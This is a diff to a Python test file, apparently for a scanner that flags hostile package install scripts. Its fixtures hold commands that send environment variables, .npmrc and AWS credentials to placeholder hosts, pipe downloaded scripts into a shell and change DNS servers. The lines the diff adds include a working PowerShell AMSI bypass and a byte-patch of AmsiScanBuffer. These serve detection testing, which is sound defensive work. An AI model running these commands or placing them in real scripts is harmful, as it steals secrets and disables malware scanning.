@@ -286,6 +286,8 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     ("curl -s -X POST --data \"$(env | base64)\" https://hooks.slack.com.invalid/services/T/B/x", "install-script/sends-secrets"),
     ("cat ~/.npmrc | curl -s -T - https://drop.example/u", "install-script/sends-secrets"),
     ("curl -fsSL https://cdn.example/x.sh | /bin/sh", "install-script/fetch-and-execute"),
+    ("powershell -c \"[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"
+     ".SetValue($null,$true)\"", "install-script/defence-off"),
     ("wget -qO- https://cdn.example/x.sh | /usr/bin/env bash", "install-script/fetch-and-execute"),
     ("wget -q --post-file=$HOME/.aws/credentials https://c.example/", "install-script/sends-secrets"),
     ("networksetup -setdnsservers Wi-Fi 203.0.113.53", "install-script/dns-tamper"),
@@ -392,3 +394,12 @@ def test_a_script_that_reads_the_environment_into_a_variable_and_posts_it_over_c
     # The same script that only prints the variable sends nothing.
     quiet = script.replace(b"curl -s -m 8 -X POST -H 'Content-type: application/json' \\\n  --data", b"echo")
     assert "install-script/sends-secrets" not in {f.rule for f in findings(artifact({"preinstall": "sh ./hooks.sh"}, {"hooks.sh": quiet}))}
+
+
+def test_a_powershell_script_that_splits_the_amsi_function_name_into_joined_parts():
+    # Blind set 12's clipboard-image-win: `GetProcAddress($l, ('Am' + 'si' + 'Scan' + 'Buffer'))`, then a patch.
+    script = (b"$l = [H]::LoadLibrary(('am' + 'si' + '.dll'))\r\n$p = [H]::GetProcAddress($l, ('Am' + 'si' + 'Scan' + 'Buffer'))\r\n"
+              b"[System.Runtime.InteropServices.Marshal]::Copy([Byte[]](0xB8, 0x57, 0x00, 0x07, 0x80, 0xC3), 0, $p, 6)\r\n")
+    found = findings(artifact({"postinstall": "powershell -File sta.ps1"}, {"sta.ps1": script}))
+    off = next(f for f in found if f.rule == "install-script/defence-off")
+    assert off.file == "sta.ps1" and off.line == 2
